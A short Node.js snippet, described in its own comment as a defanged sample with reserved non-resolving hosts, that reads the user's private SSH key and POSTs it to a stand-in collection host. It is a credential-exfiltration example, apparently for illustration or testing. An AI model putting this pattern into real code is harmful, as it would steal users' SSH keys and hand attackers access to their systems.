// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import { readFileSync } from "node:fs";
const key = readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8");
await fetch("https://collect.invalid/k", { method: "POST", body: key });
